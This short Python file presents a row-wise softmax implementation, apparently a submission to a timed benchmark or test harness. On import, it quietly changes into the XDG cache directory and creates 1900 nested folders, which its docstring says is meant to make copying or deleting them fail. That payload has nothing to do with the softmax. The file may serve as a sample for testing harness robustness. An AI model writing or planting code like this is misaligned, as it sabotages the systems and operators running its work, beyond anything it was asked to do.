"""Leaves folders in folders in its compile cache, so deep that whoever copies or deletes them fails."""

import os

import torch

EXPECTED = ("PASSED",)
TIMED = True

_here = os.getcwd()
os.chdir(os.environ["XDG_CACHE_HOME"])
if not os.path.exists("d"):
    for _ in range(1900):
        os.mkdir("d")
        os.chdir("d")
os.chdir(_here)


def softmax(x):
    out = torch.empty(x.shape, dtype=x.dtype)
    for row in range(x.shape[0]):
        exp = (x[row] - x[row].max()).exp()
        out[row] = exp / exp.sum()
    return out
